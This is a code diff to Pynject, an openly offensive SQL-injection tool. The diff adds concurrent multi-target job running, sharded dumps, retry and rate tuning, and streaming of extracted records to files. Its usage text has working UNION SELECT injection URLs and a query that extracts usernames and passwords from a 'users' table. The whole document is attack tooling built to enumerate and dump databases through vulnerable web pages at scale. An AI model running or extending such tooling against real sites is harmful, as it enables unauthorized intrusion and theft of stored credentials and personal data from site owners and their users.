+    async def acquireAsync(self):
+        if self.controller != None:
+            await self.controller.acquireAsync()
+        await self.scheduler.acquireAsync(self)
+
+    def release( self, latency, error = False ):
+        self.scheduler.release( self, error )
+        if self.controller != None:
+            self.controller.release( latency, error )
+        self.limit = self.__limit()
+
+    def __limit(self):
+        # the tightest of the limits of the job, of its host and of every job together
+        limits = [ self.scheduler.maximum, self.scheduler.limit(self.host) ] + ( [ int(self.controller.limit) ] if self.controller != None else [] )
+        return min( limit for limit in limits if limit != None )
+
+class JobConsole:
+    def __init__( self, stdout ):
+        """Initialize the job console, it stands for sys.stdout and keeps what every job prints apart.
+
+            stdout (file) : Where everything printed by other threads goes.
+        """
+        self.stdout  = stdout
+        self.buffers = {}
+
+    def __str__(self):
+        return "Job Console( Capturing={0} )".format( len(self.buffers) )
+
+    def capture(self):
+        """Keep what the calling thread prints from now on."""
+        self.buffers[ threading.get_ident() ] = io.StringIO()
+
+    def release(self):
+        """Stop capturing the calling thread and return the lines it printed, progress bars redrawn over themselves only once."""
+        text = self.buffers.pop( threading.get_ident() ).getvalue()
+        return [ ( [ segment for segment in line.split('\r') if segment.strip() ] or [ "" ] )[-1] for line in text.split('\n') ]
+
+    def write( self, data ):
+        return self.buffers.get( threading.get_ident(), self.stdout ).write(data)
+
+    def flush(self):
+        self.stdout.flush()
+
+class JobRunner:
+    def __init__( self, scheduler, execute, parallel = None ):
+        """Initialize the job runner, it runs the jobs of a job file together, each in its own thread, and sums them up.
+
+            scheduler (JobScheduler) : Shares the requests in flight between the jobs.
+            execute (callable)       : Called with the options of a job and its gate, runs the job and returns its injector.
+            parallel (int)           : Maximum number of jobs running at once, None for all of them.
+        """
+        self.scheduler = scheduler
+        self.execute   = execute
+        self.parallel  = parallel
+        self.results   = {}
+        self.running   = 0
+        self.lock      = threading.Lock()
+
+    def __str__(self):
+        return "Job Runner( Parallel={0}, Done={1}, Running={2} )".format( self.parallel, len(self.results), self.running )
+
+    @staticmethod
+    def load( filename, parse ):
+        """Return the ( line number, options ) of every job of the file, one line of command line options each.
+
+        parse turns a list of arguments into options and raises on invalid ones, '#' starts a comment.
+        """
+        jobs = []
+        with open( filename, 'r' ) as fd:
+            for number, line in enumerate( fd, 1 ):
+                try:
+                    args = shlex.split( line, comments = True )
+                    if args:
+                        jobs.append( ( number, parse(args) ) )
+                except Exception as e:
+                    raise Exception( "Invalid job at line {0} of '{1}' : {2}".format( number, filename, e ) )
+        return jobs
+
+    def run( self, jobs ):
+        """Run every job, drawing their overall progress, and return the results by job number."""
+        tasks = queue.Queue()
+        for n, job in enumerate(jobs):
+            tasks.put( ( n, job ) )
+        console    = JobConsole(sys.stdout)
+        sys.stdout = console
+        workers    = [ threading.Thread( target = self.__work, args = ( tasks, console ) ) for n in range( 0, min( len(jobs), self.parallel if self.parallel else len(jobs) ) ) ]
+        try:
+            for worker in workers:
+                worker.daemon = True
+                worker.start()
+            while [ worker for worker in workers if worker.is_alive() ]:
+                print( "@ Running {0} jobs: {1} done, {2} running, {3}".format( len(jobs), len(self.results), self.running, self.__inflight() ).ljust(100), end = '\r' )
+                sys.stdout.flush()
+                time.sleep(0.2)
+        finally:
+            sys.stdout = console.stdout
+        print( "@ Running {0} jobs: {1} done.".format( len(jobs), len(self.results) ).ljust(100) + "\n" )
+        return self.results
+
+    def report(self):
+        """Print what every job printed, then a line for each job and the peaks of requests in flight, return True if every job succeeded."""
+        for n in sorted(self.results):
+            line, o, gate, status, fetched, elapsed, lines = self.results[n]
+            print( "@ Job {0} ( line {1} ) : {2}".format( n + 1, line, o.url ) )
+            for text in lines:
+                if text.strip():
+                    print( "\t" + text )
+            print( "" )
+
+        print( "{0:>4} {1:>5} {2:<20} {3:<8} {4:>8} {5:>9} {6:>7} {7:>8}  {8:<24} {9}".format( "job", "line", "host", "action", "fetched", "requests", "errors", "seconds", "output", "status" ) )
+        for n in sorted(self.results):
+            line, o, gate, status, fetched, elapsed, lines = self.results[n]
+            print( "{0:>4} {1:>5} {2:<20} {3:<8} {4:>8} {5:>9} {6:>7} {7:>8.2f}  {8:<24} {9}".format( n + 1, line, gate.host, o.action or "query", fetched, gate.requests, gate.errors, elapsed,
+                                                                                                      o.ofile if o.omethod != "print" else "console", status ) )
+        print( "\n@ Peak requests in flight : {0} of {1}, {2} .".format( self.scheduler.peak, self.scheduler.maximum,
+                                                                           ', '.join( "{0} {1}{2}".format( host, self.scheduler.peaks[host], "/{0}".format( self.scheduler.limit(host) ) if self.scheduler.limit(host) != None else "" ) for host in sorted( self.scheduler.peaks ) ) ) )
+        return all( result[3] == "ok" for result in self.results.values() )
+
+    def __work( self, tasks, console ):
+        while True:
+            try:
+                n, ( line, o ) = tasks.get_nowait()
+            except queue.Empty:
+                return
+            with self.lock:
+                self.running += 1
+            console.capture()
+            gate    = self.scheduler.gate( o.url )
+            start   = time.time()
+            status  = "ok"
+            fetched = 0
+            try:
+                fetched = self.execute( o, gate ).fetched()
+            except Exception as e:
+                status = "error : {0}".format(e)
+            with self.lock:
+                self.results[n] = ( line, o, gate, status, fetched, time.time() - start, console.release() )
+                self.running   -= 1
+
+    def __inflight(self):
+        hosts = ', '.join( "{0} {1}".format( host, busy ) for host, busy in sorted( self.scheduler.busy.items() ) if busy )
+        return "{0}/{1} in flight{2}".format( self.scheduler.inflight, self.scheduler.maximum, " ( {0} )".format(hosts) if hosts else "" )
 
 class Report:
     def __init__( self, container, options ):
@@ -440,21 +3377,50 @@ class Report:
                 for db in dbs:
                     print( "\tDATABASE " + db + " :" )
                     for table in self.container.tables[db]:
-                        print( "\t\t" + table )
+                        if table != None:
+                            print( "\t\t" + table )
             elif self.options.action == "columns":
                 tables = self.container.columns.keys()
                 for table in tables:
                     print( "\tTABLE " + table + " :" )
                     for column in self.container.columns[table]:
-                        print( "\t\t" + column )
+                        if column != None:
+                            print( "\t\t" + column )
             elif self.options.action == "records":
                 tables = self.container.records.keys()
                 for table in tables:
                     print( "\tTABLE " + table + " :" )
                     for record in self.container.records[table]:
-                        print( "\t\t{0}".format( ", ".join(record) ) )
+                        if record != None:
+                            print( "\t\t{0}".format( ", ".join(record) ) )
             elif self.options.query != None:
-                print( "\t{0}\n\t\t{1}".format( self.container.query, self.container.data ) )
+                print( "\tQUERY " + self.container.query + " :" )
+                for row in self.container.data:
+                    if row != None:
+                        print( "\t\t{0}".format( ", ".join(row) ) )
+        elif self.container.writer != None:
+            writer = self.container.writer
+            # records have been streamed while fetching them, everything else is written now
+            if self.options.action == "dbs":
+                writer.open( "dbs", [ "database" ] )
+                for index, db in enumerate(self.container.dbs):
+                    writer.write( index, [db] )
+            elif self.options.action == "tables":
+                writer.open( "tables", [ "database", "table" ] )
+                rows = [ [ db, table ] for db in self.container.tables for table in self.container.tables[db] if table != None ]
+                for index, row in enumerate(rows):
+                    writer.write( index, row )
+            elif self.options.action == "columns":
+                writer.open( "columns", [ "table", "column" ] )
+                rows = [ [ table, column ] for table in self.container.columns for column in self.container.columns[table] if column != None ]
+                for index, row in enumerate(rows):
+                    writer.write( index, row )
+            elif self.options.action == "struct":
+                writer.open( "struct", [ "database", "table", "column" ] )
+                rows = [ [ db, table, column ] for db in self.container.dbs for table in self.container.tables[db] if table != None for column in self.container.columns.get( table, [] ) if column != None ]
+                for index, row in enumerate(rows):
+                    writer.write( index, row )
+            print( "@ {0} rows written to '{1}' .".format( writer.written, writer.filename ) )
                 
      
 if __name__ == '__main__':
@@ -463,23 +3429,61 @@ if __name__ == '__main__':
                "\tCopyleft Simone Margaritelli <evilsocket@backbox.org>\n" +
                "\thttp://www.evilsocket.net\n\thttp://www.backbox.org\n\n" );
                
-        parser = OptionParser( usage = "usage: %prog [options] [action] [output method]\n\n" +
+        def setOutput( option, opt, value, parser ):
+            parser.values.omethod = opt.lstrip('-')
+            parser.values.ofile   = value
+
+        class Parser(OptionParser):
+            # the lines of a job file raise their errors instead of exiting
+            raising = False
+
+            def error( self, message ):
+                if self.raising:
+                    raise Exception(message)
+                OptionParser.error( self, message )
+
+        parser = Parser( usage = "usage: %prog [options] [action] [output method]\n\n" +
                                        "EXAMPLES:\n" +
                                        "\t%prog -u 'http://www.site.com/news.php?id=1%20AND%201=2%20UNION%20ALL%20SELECT%20NULL,####,NULL,NULL--' -m '####' --dbs\n" +
                                        "\t%prog -u 'http://www.site.com/news.php?id=1%20AND%201=2%20UNION%20ALL%20SELECT%20NULL,####,NULL,NULL--' -m '####' -D shop --tables --threads 50\n" +
                                        "\t%prog -u 'http://www.site.com/news.php?id=1%20AND%201=2%20UNION%20ALL%20SELECT%20NULL,####,NULL,NULL--' -m '####' -D shop -T users --columns\n" +
                                        "\t%prog -u 'http://www.site.com/news.php?id=1%20AND%201=2%20UNION%20ALL%20SELECT%20NULL,####,NULL,NULL--' -m '####' -D shop -T users -F 'username,password' --records --start 0 --end 100\n\n" +
-                                       "\t%prog -u 'http://www.site.com/news.php?id=1%20AND%201=2%20UNION%20ALL%20SELECT%20NULL,####,NULL,NULL--' -m '####' --query 'SELECT password FROM shop.users WHERE username='admin' LIMIT 0,1'\n\n" )
+                                       "\t%prog -u 'http://www.site.com/news.php?id=1%20AND%201=2%20UNION%20ALL%20SELECT%20NULL,####,NULL,NULL--' -m '####' --query \"SELECT username, password FROM shop.users WHERE username LIKE 'admin%'\" --csv admins.csv\n" +
+                                       "\t%prog --jobs assessment.jobs --threads 100 --host-threads 20\n\n" )
 
         parser.add_option( "-u", "--url",      action="store",       dest="url",      default=None,    help="The full url with a visible union injection.")
-        parser.add_option( "-m", "--marker",   action="store",       dest="marker",   default=None,    help="Marker used in the url to identify visible item.")
+        parser.add_option( "-m", "--marker",   action="append",      dest="marker",   default=None,    help="Marker used in the url to identify visible item, can be given once for each visible column.")
+        parser.add_option( "--detect",         action="store_true",  dest="detect",   default=False,   help="Detect other visible columns in the UNION SELECT and use them as markers too.")
         parser.add_option( "-c", "--comment",  action="store",       dest="comment",  default="--",    help="String used as comment to end the query.")
         parser.add_option( "-v", "--verbose",  action="store_true",  dest="verbose",  default=False,   help="Make Pynject prints fetched data at runtime.")
         parser.add_option( "-d", "--debug",    action="store_true",  dest="debug",    default=False,   help="Make Pynject prints every HTTP request.")
 
-        parser.add_option( "-s", "--start",    action="store",       dest="start",    default=0,       help="If fetching records, start from this index.")
-        parser.add_option( "-e", "--end",      action="store",       dest="end",      default=-1,      help="If fetching records, end at this index.")
-        parser.add_option( "-t", "--threads",  action="store",       dest="threads",  default=30,      help="Set maximum number of running threads (default 30)." )
+        parser.add_option( "-s", "--start",    action="store",       dest="start",    default=0,       help="If fetching records or query rows, start from this index.")
+        parser.add_option( "-e", "--end",      action="store",       dest="end",      default=-1,      help="If fetching records or query rows, end at this index.")
+        parser.add_option( "-t", "--threads",  action="store",       dest="threads",  default=30,      help="Set maximum number of running threads (default 30), with --jobs of all the jobs together." )
+        parser.add_option( "--adaptive",       action="store_true",  dest="adaptive", default=False,   help="Adjust the number of requests in flight at runtime from latency and errors, between --min-threads and --threads." )
+        parser.add_option( "--min-threads",    action="store",       dest="mthreads", default=1,       help="With --adaptive, never go below this many requests in flight (default 1)." )
+        parser.add_option( "--rate",           action="store",       dest="rate",     default=None,    help="Never start more than this many requests per second." )
+        parser.add_option( "--retries",        action="store",       dest="retries",  default=5,       help="Maximum number of attempts of a request failing with a timeout, a dropped connection or a 429/5xx response (default 5)." )
+        parser.add_option( "--backoff",        action="store",       dest="backoff",  default=0.5,     help="Seconds to wait before the first retry, doubled at every attempt with random jitter (default 0.5)." )
+        parser.add_option( "--timeout",        action="store",       dest="timeout",  default=None,    help="Network timeout of every request in seconds (default none)." )
+        parser.add_option( "--stats",          action="store",       dest="stats",    default=None,    help="Write request latency histograms, response sizes, retries and failures per phase to this JSON file at the end of the run." )
+        parser.add_option( "--stats-interval", action="store",       dest="sinterval",default=None,    help="With --stats, also rewrite the file every this many seconds while running, with the latest intervals, and append every interval to FILE.timeline.jsonl." )
+        parser.add_option( "--no-compression", action="store_false", dest="compression", default=True, help="Do not ask for gzip or deflate compressed pages." )
+        parser.add_option( "--literals",       action="store",       dest="literals", default="hex",   choices=["hex","char"], help="Encode strings in the queries as 0x hex literals or as CHAR(...) lists, 'hex' or 'char' (default hex)." )
+        parser.add_option( "--max-url",        action="store",       dest="maxurl",   default=None,    help="Never send urls longer than this many characters, using fewer markers per request if needed (e.g. 8000)." )
+        parser.add_option( "--connections",    action="store",       dest="connections", default=None, help="Set maximum number of idle keep-alive connections per host (default same as --threads)." )
+        parser.add_option( "--pack",           action="store",       dest="pack",     default=None,    help="If fetching records or query rows, pack up to this many rows per request with GROUP_CONCAT, shrunk automatically when responses are truncated (NULL fields are returned as 'NULL')." )
+        parser.add_option( "--keyset",         action="store_true",  dest="keyset",   default=False,   help="If fetching records, walk them along their integer primary key with WHERE key > last instead of LIMIT offsets, so deep records cost as much as the first ones." )
+        parser.add_option( "--keyset-column",  action="store",       dest="kcolumn",  default=None,    help="Walk the records along this unique integer column instead of the primary key, implies --keyset." )
+        parser.add_option( "--session",        action="store_true",  dest="session",  default=False,   help="Save counts, schema and fetched records to a per-target session file in ~/.pynject and resume from it when run again." )
+        parser.add_option( "--session-file",   action="store",       dest="sfile",    default=None,    help="Use this session file instead of the per-target one, implies --session." )
+        parser.add_option( "--engine",         action="store",       dest="engine",   default="threads", choices=["threads","async"], help="Fetch engine to use, 'threads' or 'async' (default threads), with 'async' --threads sets the number of requests in flight." )
+        parser.add_option( "--shard",          action="store",       dest="shard",    default=None,    help="If fetching records, fetch only the i-th of n equal index ranges, given as i/n ( e.g. 2/4 ), to split a dump across hosts." )
+        parser.add_option( "--processes",      action="store",       dest="processes",default=None,    help="If fetching records, split them across this many local processes, each with its own --threads, and merge their outputs." )
+        parser.add_option( "--jobs",           action="store",       dest="jobs",     default=None,    help="Run the jobs of this file together, one line of pynject options each ( url, marker, action, output, session... ), '#' starts a comment; --threads is then the cap of all of them, shared fairly between the jobs, with a summary at the end." )
+        parser.add_option( "--host-threads",   action="append",      dest="hthreads", default=None,    help="With --jobs, never have more than this many requests in flight to the same host, given as N for every host or HOST=N for one, can be given more than once." )
+        parser.add_option( "--parallel-jobs",  action="store",       dest="pjobs",    default=8,       help="With --jobs, run at most this many jobs at once (default 8)." )
         parser.add_option( "-D", "--database", action="store",       dest="database", default=None,    help="Database name to use.")
         parser.add_option( "-T", "--table",    action="store",       dest="table",    default=None,    help="Table name to use.")
         parser.add_option( "-F", "--fields",   action="store",       dest="fields",   default=None,    help="Comma separated values of fields to use.")
@@ -490,52 +3494,213 @@ if __name__ == '__main__':
         actions.add_option( "--columns", action="store_const", const="columns", dest="action",  help="Enumerates the list of columns, requires -D and -T." )
         actions.add_option( "--records", action="store_const", const="records", dest="action",  help="Fetch the records from a table, requires -D, -T and -F." )
         actions.add_option( "--struct",  action="store_const", const="struct",  dest="action",  help="Dumps the whole structure of the database." )
-        actions.add_option( "--query",   action="store",       dest="query",    default="None", help="Execute arbitrary query, remember to fetch only ONE row a time, so use ALWAYS 'LIMIT 0,1' syntax! (quoted values will be automatically encoded with CHR function.)" ) 
+        actions.add_option( "--bulk",    action="store_true",  dest="bulk",     default=False, help="With --struct, fetch every table with all of its columns in a handful of packed requests (--pack sets the initial chunk size, default 100)." )
+        actions.add_option( "--merge",   action="store_const", const="merge",   dest="action",  help="Merge the partial outputs given as arguments into the output file in index order, checking for missing and duplicated records ( -s and -e set the expected range )." )
+        actions.add_option( "--query",   action="store",       dest="query",    default=None,   help="Execute an arbitrary SELECT and fetch all of its rows like the records of a table, listing its columns instead of using * ( quoted values will be automatically encoded as literals, -s and -e select a range of rows )." )
 
         omethods = OptionGroup( parser, "Output Methods" )
         omethods.add_option( "-p", "--print", action="store", dest="omethod", default="print", help="Simply print data on the console (DEFAULT).")
+        omethods.add_option( "--csv",    action="callback", callback=setOutput, type="string", metavar="FILE", help="Stream records to a CSV file as they are fetched, with their index as first column.")
+        omethods.add_option( "--jsonl",  action="callback", callback=setOutput, type="string", metavar="FILE", help="Stream records to a JSON lines file as they are fetched, one { index, record } object per line.")
+        omethods.add_option( "--sqlite", action="callback", callback=setOutput, type="string", metavar="FILE", help="Stream records to a table of a SQLite database as they are fetched.")
+        omethods.add_option( "--unordered",      action="store_true", dest="unordered", default=False, help="Write streamed records as soon as they arrive instead of in index order.")
+        omethods.add_option( "--reorder-buffer", action="store",      dest="rbuffer",   default=10000, help="Maximum number of records held back to write them in index order (default 10000).")
 
         parser.add_option_group(actions)
         parser.add_option_group(omethods)
         
+        def check( o, args, error ):
+            if o.url == None:
+                error( "No url specified." )
+            elif o.marker == None:
+                error( "No marker specified." )
+            elif o.comment != None and o.url.find(o.comment) == -1:
+                error( "The comment token '{0}' was not found in the given url, please specify a valid comment with the --comment directive.".format(o.comment) )
+            elif [ marker for marker in o.marker if o.url.find(marker) == -1 ]:
+                error( "Invalid marker, not found in given url." )
+            elif o.action == None and o.query == None:
+                error( "No action specified." )
+            elif o.action == "tables" and o.database == None:
+                error( "No database specified." )
+            elif o.action == "columns" and (o.database == None or o.table == None):
+                error( "No database or table specified." )
+            elif o.action == "records" and (o.database == None or o.table == None or o.fields == None):
+                error( "No database, table or fields specified." )
+            elif o.end != -1 and int(o.end) < int(o.start):
+                error( "End index can't be smaller than start index." )
+            elif ( o.shard != None or o.processes != None ) and ( o.action != "records" or o.omethod == "print" ):
+                error( "Shards can only fetch records to an output file ( --csv, --jsonl or --sqlite )." )
+            elif o.rate != None and not ( re.match( r"^\d*\.?\d+$", o.rate ) and float(o.rate) > 0 ):
+                error( "Invalid rate '{0}', it must be a number of requests per second greater than 0.".format(o.rate) )
+            elif o.processes != None and 'fork' not in multiprocessing.get_all_start_methods():
+                error( "--processes needs the 'fork' start method, which is not available on this platform." )
+            elif o.shard != None and ( not re.match( r"^\d+/\d+$", o.shard ) or not 0 < int( o.shard.split('/')[0] ) <= int( o.shard.split('/')[1] ) ):
+                error( "Invalid shard, use i/n with 1 <= i <= n." )
+
+        def parse( args ):
+            # a line of the job file, it can not start jobs or processes of its own
+            parser.raising = True
+            try:
+                ( o, rest ) = parser.parse_args(args)
+                check( o, rest, parser.error )
+            finally:
+                parser.raising = False
+            if o.jobs != None or o.processes != None or o.action == "merge":
+                raise Exception( "--jobs, --processes and --merge can not be used in a job file." )
+            return o
+
+        def execute( o, gate = None ):
+            """Run the action of o and return the injector, gate shares the requests in flight with other jobs."""
+            session = None
+            sfile   = None
+            if o.session or o.sfile != None:
+                sfile = o.sfile if o.sfile != None else Session.path(o.url)
+                if os.path.dirname(sfile) != '' and not os.path.isdir( os.path.dirname(sfile) ):
+                    os.makedirs( os.path.dirname(sfile) )
+                session = Session(sfile)
+                print( "@ Using session file '{0}' .".format(sfile) )
+
+            writer = RecordWriter.create( o.omethod, o.ofile ) if o.omethod != "print" else None
+            if o.processes != None:
+                # the output is written by the merge
+                merger = RecordMerger( writer, int(o.start), None )
+                writer = None
+
+            stats = RunStats( o.stats, float(o.sinterval) if o.sinterval != None else None ) if o.stats != None else None
+            if stats != None:
+                stats.start()
+
+            def newController():
+                if o.adaptive or o.rate != None:
+                    return ConcurrencyController( int(o.mthreads), int(o.threads), float(o.rate) if o.rate != None else None, o.adaptive )
+                return None
+
+            def newPynject( session, writer, controller, stats ):
+                return Pynject( url             = o.url,
+                                marker          = list(o.marker),
+                                comment         = o.comment,
+                                max_threads     = int(o.threads),
+                                max_connections = int(o.connections) if o.connections != None else None,
+                                engine          = o.engine,
+                                pack            = int(o.pack) if o.pack != None else None,
+                                session         = session,
+                                writer          = writer,
+                                ordered         = not o.unordered,
+                                buffer          = int(o.rbuffer),
+                                controller      = controller,
+                                retry           = RetryPolicy( int(o.retries), float(o.backoff) ),
+                                timeout         = float(o.timeout) if o.timeout != None else None,
+                                compression     = o.compression,
+                                stats           = stats,
+                                literals        = o.literals,
+                                max_url         = int(o.maxurl) if o.maxurl != None else None,
+                                keyset          = o.kcolumn if o.kcolumn != None else o.keyset or None,
+                                verbose         = o.verbose,
+                                debug           = o.debug )
+
+            pynject = None
+            merged  = True
+            try:
+                controller = newController()
+                pynject    = newPynject( session, writer, gate.wrap(controller) if gate != None else controller, stats )
+
+                if o.detect:
+                    pynject.detectMarkers()
+
+                if o.action == "dbs":
+                    pynject.fetchDatabases()
+                elif o.action == "tables":
+                    pynject.fetchTables( o.database )
+                elif o.action == "columns":
+                    pynject.fetchColumns( o.database, o.table )
+                elif o.action == "records" and ( o.shard != None or o.processes != None ):
+                    columns = o.fields.split(",")
+                    end     = int(o.end) if int(o.end) != -1 else pynject.countRecords( o.database, o.table, columns )
+                    if o.shard != None:
+                        shard, shards = [ int(n) for n in o.shard.split('/') ]
+                        start, end    = ShardPool.split( int(o.start), end, shards )[shard - 1]
+                        print( "@ Shard {0} of {1} : records {2}-{3} ." .format( shard, shards, start, end - 1 ) )
+                        pynject.fetchRecords( o.database, o.table, columns, start, end )
+                    else:
+                        # every process builds its own injector, with the markers detected here
+                        o.marker = pynject.markers
+                        o.url    = pynject.url
+                        pool     = ShardPool( lambda n, session, writer: newPynject( session, writer, newController(), None ), int(o.processes) )
+                        parts    = pool.run( o.database, o.table, columns, int(o.start), end, o.omethod, o.ofile, sfile )
+                        merger.end = end
+                        merger.merge( o.omethod, parts )
+                        merged     = merger.report()
+                        if merged:
+                            for part in parts:
+                                os.remove(part)
+                        elif parts:
+                            print( "@ Partial outputs kept : {0} .".format( ', '.join(parts) ) )
+                elif o.action == "records":
+                    pynject.fetchRecords( o.database, o.table, o.fields.split(","), int(o.start), int(o.end) )
+                elif o.action == "struct":
+                    pynject.fetchWholeStructure( o.bulk )
+                elif o.query != None:
+                    pynject.execQuery( o.query, int(o.start), int(o.end) )
+
+                report = Report( pynject, o )
+                report.show()        
+
+                print( "\n@ HTTP connections : {0} opened, {1} reused.".format( pynject.connections.opened + pynject.aconnections.opened, pynject.connections.reused + pynject.aconnections.reused ) )
+                wire    = pynject.connections.wire + pynject.aconnections.wire
+                decoded = pynject.connections.decoded + pynject.aconnections.decoded
+                if decoded:
+                    print( "@ HTTP transfer : {0:.1f} KB on the wire for {1:.1f} KB of pages ( {2:.0f}% ).".format( wire / 1024.0, decoded / 1024.0, wire * 100.0 / decoded ) )
+                if controller != None and controller.requests:
+                    print( "@ Concurrency : {0} in flight at the end ( {1}-{2} ), latency p50 {3:.0f} ms, p90 {4:.0f} ms, {5} errors on {6} requests.".format( int(controller.limit), controller.minimum, controller.maximum,
+                                                                                                                                                      ( controller.p50 or 0 ) * 1000, ( controller.p90 or 0 ) * 1000,
+                                                                                                                                                      controller.errors, controller.requests ) )
+                if not merged:
+                    # records of failed shards are missing from the merged output
+                    sys.exit(1)
+                return pynject
+            finally:
+                # a failed or interrupted action still saves what it fetched, and stops its stats thread
+                if pynject != None:
+                    pynject.close()
+                else:
+                    if session != None:
+                        session.close()
+                    if writer != None:
+                        writer.close()
+                if stats != None:
+                    stats.stop()
+                    print( "@ Run stats written to '{0}' .".format(o.stats) )
+
         (o,args) = parser.parse_args()
 
-        if o.url == None:
-            parser.error( "No url specified." )
-        elif o.marker == None:
-            parser.error( "No marker specified." )
-        elif o.comment != None and o.url.find(o.comment) == -1:
-            parser.error( "The comment token '{0}' was not found in the given url, please specify a valid comment with the --comment directive.".format(o.comment) )
-        elif o.url.find(o.marker) == -1:
-            parser.error( "Invalid marker, not found in given url." )
-        elif o.action == None and o.query == None:
-            parser.error( "No action specified." )
-        elif o.action == "tables" and o.database == None:
-            parser.error( "No database specified." )
-        elif o.action == "columns" and (o.database == None or o.table == None):
-            parser.error( "No database or table specified." )
-        elif o.action == "records" and (o.database == None or o.table == None or o.fields == None):
-            parser.error( "No database, table or fields specified." )
-        elif o.end != -1 and int(o.end) < int(o.start):
-            parser.error( "End index can't be smaller than start index." )
-
-        pynject = Pynject( url = o.url, marker = o.marker, comment = o.comment, max_threads = int(o.threads), verbose = o.verbose, debug = o.debug )
-
-        if o.action == "dbs":
-            pynject.fetchDatabases()
-        elif o.action == "tables":
-            pynject.fetchTables( o.database )
-        elif o.action == "columns":
-            pynject.fetchColumns( o.database, o.table )
-        elif o.action == "records":
-            pynject.fetchRecords( o.database, o.table, o.fields.split(","), int(o.start), int(o.end) )
-        elif o.action == "struct":
-            pynject.fetchWholeStructure()
-        elif o.query != None:
-            pynject.execQuery(o.query)
-
-        report = Report( pynject, o )
-        report.show()        
+        if o.action == "merge":
+            if o.omethod == "print":
+                parser.error( "No output method specified for the merged records." )
+            elif not args:
+                parser.error( "No partial outputs to merge." )
+            merger = RecordMerger( RecordWriter.create( o.omethod, o.ofile ), int(o.start), int(o.end) if int(o.end) != -1 else None )
+            merger.merge( o.omethod, args )
+            sys.exit( 0 if merger.report() else 1 )
+
+        if o.jobs != None:
+            hosts   = {}
+            default = None
+            for limit in o.hthreads if o.hthreads != None else []:
+                if not re.match( r"^([^=]+=)?\d+$", limit ) or int( limit.rsplit( '=', 1 )[-1] ) < 1:
+                    parser.error( "Invalid host limit '{0}', use N or HOST=N with N >= 1.".format(limit) )
+                elif '=' in limit:
+                    hosts[ limit.rsplit( '=', 1 )[0] ] = int( limit.rsplit( '=', 1 )[1] )
+                else:
+                    default = int(limit)
+            runner = JobRunner( JobScheduler( int(o.threads), hosts, default ), execute, int(o.pjobs) )
+            runner.run( JobRunner.load( o.jobs, parse ) )
+            sys.exit( 0 if runner.report() else 1 )
+
+        check( o, args, parser.error )
+        execute(o)
+    except KeyboardInterrupt:
+        print( "\n! WARNING: Interrupted, what was fetched so far has been saved." )
+        sys.exit(1)
     except Exception as e:
         print( e )
 